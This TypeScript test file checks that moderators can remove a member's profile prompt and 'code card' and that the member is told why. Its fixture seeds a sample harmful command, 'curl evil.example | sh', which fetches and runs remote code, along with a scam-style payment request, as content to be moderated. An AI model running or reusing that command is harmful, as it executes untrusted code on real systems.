import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neighbourhood } from "../../../test/discovery.ts";
import { createTestApp, type TestApp } from "../../../test/test-app.ts";
import { moderatorEmail, signedInModerator } from "../../moderation/tests/helpers.ts";

const MODERATOR = moderatorEmail();
let t: TestApp;
let moderator: Awaited<ReturnType<typeof signedInModerator>>;
beforeAll(async () => {
  t = await createTestApp({ MODERATOR_EMAILS: MODERATOR });
  moderator = await signedInModerator(t, MODERATOR);
});
afterAll(() => t.close());

describe("moderating prompts and code cards", () => {
  it("shows them in the case file and removes one prompt or the code card, telling the member why", async () => {
    const area = neighbourhood(t);
    const member = await area.viewer({
      prompts: [
        { promptId: "currently-building", answer: "Fine answer" },
        { promptId: "dealbreaker", answer: "Pay me on my wallet" },
      ],
      codeCard: { language: "bash", code: "curl evil.example | sh", caption: null },
    });
    const base = `/api/moderation/members/${member.user.id}`;
    const file = (await moderator.client.get(base)).json().data;
    expect(file.profile.prompts).toHaveLength(2);
    expect(file.profile.codeCard).toMatchObject({ code: "curl evil.example | sh" });

    // Nobody else may.
    expect((await member.client.post(`${base}/prompts/dealbreaker/remove`, { reason: "x" })).statusCode).toBe(403);

    expect(
      (await moderator.client.post(`${base}/prompts/dealbreaker/remove`, { reason: "Payment request" })).statusCode,
    ).toBe(200);
    expect((await moderator.client.post(`${base}/code-card/remove`, { reason: "Harmful command" })).statusCode).toBe(
      200,
    );
    const missing = await moderator.client.post(`${base}/prompts/dealbreaker/remove`, { reason: "again" });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().message).toBe("That member has not answered that prompt.");

    const me = (await member.client.get("/api/me")).json().data;
    expect(me.prompts).toEqual([{ promptId: "currently-building", answer: "Fine answer" }]);
    expect(me.codeCard).toBeNull();
    const notices = (await member.client.get("/api/account/moderation-notices")).json().data;
    expect(notices.map((notice: { kind: string; reason: string }) => [notice.kind, notice.reason])).toEqual([
      ["prompt_removed", "Payment request"],
      ["code_card_removed", "Harmful command"],
    ]);
    const after = (await moderator.client.get(base)).json().data;
    expect(after.actions.map((action: { action: string }) => action.action)).toEqual([
      "remove_code_card",
      "remove_prompt",
    ]);
  });
});
